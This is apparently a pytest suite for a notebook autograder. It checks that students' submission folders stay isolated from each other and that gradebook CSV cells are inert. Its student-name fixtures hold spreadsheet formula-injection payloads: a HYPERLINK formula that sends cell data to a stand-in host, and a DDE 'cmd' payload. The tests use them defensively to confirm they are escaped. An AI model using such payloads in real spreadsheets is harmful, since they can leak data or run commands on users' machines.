"""Issue 9 family 7: can one student's folder in nbgrader's submitted/ layout touch anything but
that student's own row? (It must not.) And family 8: is every CSV cell a student can reach inert
in a spreadsheet?"""

import csv
import os
from pathlib import Path

import pandas as pd
import pytest

from autograder.batch import (
    BATCH_LOG_NAME,
    CACHE_NAME,
    GRADEBOOK_NAME,
    GRADED,
    GRADER_ERROR,
    UNREADABLE,
    Outcome,
    find_submissions,
    grade_batch,
    report_folder,
    write_gradebook,
)
from facekit.base.contract import ARCFACE
from facekit.base.spreadsheet import FORMULA_PREFIXES

ODD_NAMES = [
    GRADEBOOK_NAME,
    BATCH_LOG_NAME,
    CACHE_NAME,
    '=HYPERLINK("http:evil.example?"&A1,"open")',
    "+cmd|' \\C calc'!A0",
    "-1.5",
    "@SUM(A1)",
    "\tdave",
    "\r=1+1",
    "line\nbreak",
    "_x-0123456789",  # looks like an escaped folder name
    "...hidden",
    "zoë",
]


def notebook(path: Path, text: str = "not a notebook") -> Path:
    """A notebook file (unreadable by default: graded without a sandbox, so tests stay fast)."""
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")
    return path


def grade(paths, out: Path) -> dict[str, Outcome]:
    outcomes = grade_batch(find_submissions(paths), out, progress=False, self_test=False)
    return {outcome.student: outcome for outcome in outcomes}


def test_extra_notebook_costs_only_its_student(tmp_path):
    """Does a student with two notebooks get one row saying why, the others graded as usual,
    and the one named like the handout win when there is one?"""
    submitted = tmp_path / "course" / "submitted"
    notebook(submitted / "alice" / "hw2p2" / "scratch.ipynb")
    notebook(submitted / "alice" / "hw2p2" / "copy.ipynb")
    notebook(submitted / "bob" / "hw2p2" / "hw2p2.ipynb")
    notebook(submitted / "bob" / "hw2p2" / "scratch.ipynb")
    notebook(submitted / "carol" / "hw2p2" / "mine.ipynb")
    found = {s.student: s for s in find_submissions([tmp_path / "course"])}
    assert sorted(found) == ["alice", "bob", "carol"]
    assert "2 notebooks" in found["alice"].problem and "copy.ipynb" in found["alice"].problem
    assert found["bob"].notebook.name == "hw2p2.ipynb" and not found["bob"].problem
    assert found["carol"].notebook.name == "mine.ipynb"
    outcomes = grade([submitted], tmp_path / "out")
    assert {o.status for o in outcomes.values()} == {UNREADABLE}
    assert "cannot tell which one to grade" in outcomes["alice"].reason


@pytest.mark.parametrize(
    "nested",
    [
        "alice/hw2p2/submitted/bob/hw2p2/hw2p2.ipynb",
        "alice/hw2p2/junk/submitted/bob/hw2p2/hw2p2.ipynb",
        "alice/submitted/bob/hw2p2/hw2p2.ipynb",
        "alice/hw2p2/bob/hw2p2/hw2p2.ipynb",
    ],
)
@pytest.mark.parametrize("root", ["course", "course/submitted", "course/submitted/alice"])
def test_nested_submitted_folder_never_grades_as_another_student(tmp_path, nested, root):
    """Does a submitted/<other>/... planted inside one's own folder stay out of the batch, from
    whichever folder staff start (course, submitted/ or the student's own)?"""
    submitted = tmp_path / "course" / "submitted"
    notebook(submitted / "alice" / "hw2p2" / "hw2p2.ipynb")
    notebook(submitted / nested)
    found = find_submissions([tmp_path / root])
    assert [(s.student, s.notebook) for s in found] == [
        ("alice", submitted / "alice" / "hw2p2" / "hw2p2.ipynb")
    ]


def test_assignment_folder_named_submitted_is_not_a_course(tmp_path):
    """Is alice's assignment folder called 'submitted' (holding bob/hw2p2/...) still only
    alice's, when staff start from her own folder?"""
    submitted = tmp_path / "course" / "submitted"
    notebook(submitted / "alice" / "submitted" / "bob" / "hw2p2" / "hw2p2.ipynb")
    notebook(submitted / "alice" / "submitted" / "x.ipynb")
    found = find_submissions([submitted / "alice"])
    assert [s.student for s in found] == ["alice"]
    assert found[0].notebook == submitted / "alice" / "submitted" / "x.ipynb"


def test_links_and_special_files_are_their_students_zero(tmp_path):
    """Is a notebook that is a link (to /dev/zero, to another student's notebook), a FIFO, or a
    student folder that is a link, an unreadable zero for that student alone, never followed?"""
    submitted = tmp_path / "submitted"
    bob = notebook(submitted / "bob" / "hw2p2" / "hw2p2.ipynb")
    (submitted / "carol" / "hw2p2").mkdir(parents=True)
    (submitted / "carol" / "hw2p2" / "hw2p2.ipynb").symlink_to("/dev/zero")
    (submitted / "dan" / "hw2p2").mkdir(parents=True)
    (submitted / "dan" / "hw2p2" / "hw2p2.ipynb").symlink_to(bob)
    (submitted / "erin" / "hw2p2").mkdir(parents=True)
    os.mkfifo(submitted / "erin" / "hw2p2" / "hw2p2.ipynb")
    (submitted / "fay").symlink_to(submitted / "bob")
    outcomes = grade([submitted], tmp_path / "out")
    assert set(outcomes) == {"bob", "carol", "dan", "erin", "fay"}
    for student in ("carol", "dan", "erin", "fay"):
        assert outcomes[student].status == UNREADABLE and outcomes[student].total == 0
    assert "symbolic link" in outcomes["carol"].reason
    assert "FIFO" in outcomes["erin"].reason
    assert "not a plain folder" in outcomes["fay"].reason


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("{", "not valid JSON"),
        ("[1, 2]", "not a notebook"),
        ('{"cells": "x"}', "not a notebook"),
        ("[" * 100_000 + "]" * 100_000, "nests deeper"),
        ("", "not valid JSON"),
    ],
)
def test_unreadable_notebook_has_its_own_status(tmp_path, text, reason):
    """Is a file that is not a notebook status 'unreadable': a zero with the reason, in the
    gradebook, the log and the student's report?"""
    (outcome,) = grade([notebook(tmp_path / "amy.ipynb", text)], tmp_path / "out").values()
    assert outcome.status == UNREADABLE and outcome.total == 0
    assert reason in outcome.reason
    gradebook = pd.read_csv(tmp_path / "out" / GRADEBOOK_NAME).set_index("student")
    assert gradebook.loc["amy"].fillna(-1).eq(0).all()
    assert reason in (tmp_path / "out" / "amy" / "report.md").read_text()


@pytest.mark.parametrize("name", ODD_NAMES)
def test_odd_student_names_get_their_own_row_and_folder(tmp_path, name):
    """Does a student named like the batch's own files, a formula or with odd characters get
    one row and a report folder of their own, with the batch's files intact?"""
    submitted = tmp_path / "submitted"
    notebook(submitted / name / "hw2p2" / "hw2p2.ipynb")
    notebook(submitted / "bob" / "hw2p2" / "hw2p2.ipynb")
    out = tmp_path / "out"
    for _ in range(2):  # and again, from the cache
        outcomes = grade([submitted], out)
    assert set(outcomes) == {name, "bob"} and outcomes[name].cached
    folder = out / report_folder(name)
    assert folder.parent == out and (folder / "results.json").is_file()
    assert report_folder(name) not in {GRADEBOOK_NAME, BATCH_LOG_NAME, CACHE_NAME, "bob"}
    log = pd.read_csv(out / BATCH_LOG_NAME, keep_default_na=False)
    assert len(log) == 2 and set(log["report"]) == {report_folder(name), "bob"}
    assert len(pd.read_csv(out / GRADEBOOK_NAME)) == 2


def test_undecodable_folder_name_is_graded_apart_from_its_imitation(tmp_path):
    """Does a student folder whose name is not UTF-8 get a row (escaped), not a crash, and one
    literally named like its escaped form a row of its own (not a batch-stopping duplicate)?"""
    submitted = tmp_path / "submitted"
    for name in (b"caf\xe9", b"caf\\xe9"):
        raw = os.fsencode(submitted) + b"/" + name + b"/hw2p2"
        os.makedirs(raw)
        with open(raw + b"/hw2p2.ipynb", "w") as handle:
            handle.write("{")
    outcomes = grade([submitted], tmp_path / "out")
    assert sorted(outcomes) == ["caf\\xe9", "caf\\xe9/not-utf8"]
    assert "caf\\xe9/not-utf8" in (tmp_path / "out" / GRADEBOOK_NAME).read_text(encoding="utf-8")


def cells(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def test_every_csv_cell_a_student_controls_is_inert(tmp_path):
    """Does no cell of gradebook.csv or batch_log.csv start with a formula prefix, while
    numbers (a negative total too) stay numbers?"""
    outcomes = [
        Outcome(
            student=f"{prefix}evil{index}",
            notebook=f"{prefix}path{index}.ipynb",
            status=status,
            points={ARCFACE: -1.5},
            total=-1.5,
            max_total=100.0,
            reason=f"{prefix}HYPERLINK(1)",
        )
        for index, prefix in enumerate(FORMULA_PREFIXES)
        for status in (GRADED,)
    ] + [Outcome("=err", "=nb", GRADER_ERROR, reason="=reason")]
    write_gradebook(outcomes, tmp_path)
    for name in (GRADEBOOK_NAME, BATCH_LOG_NAME):
        dangerous = [c for c in cells(tmp_path / name) if c.startswith(FORMULA_PREFIXES)]
        assert dangerous == ["-1.5"] * dangerous.count("-1.5"), (name, dangerous)
    gradebook = pd.read_csv(tmp_path / GRADEBOOK_NAME)
    assert gradebook["total"].dropna().eq(-1.5).all()
    assert gradebook["student"].str.startswith("'").all()


def test_formula_named_student_is_inert_end_to_end(tmp_path):
    """Is a student folder named `=HYPERLINK(...)` (and its path in the log) inert in both
    CSVs written by a real batch?"""
    name = '=HYPERLINK("http:evil.example","x")'
    notebook(tmp_path / "submitted" / name / "hw2p2" / "hw2p2.ipynb")
    grade([tmp_path / "submitted"], tmp_path / "out")
    for csv_name in (GRADEBOOK_NAME, BATCH_LOG_NAME):
        found = cells(tmp_path / "out" / csv_name)
        assert not [c for c in found if c.startswith(FORMULA_PREFIXES)], found
        assert "'" + name in found
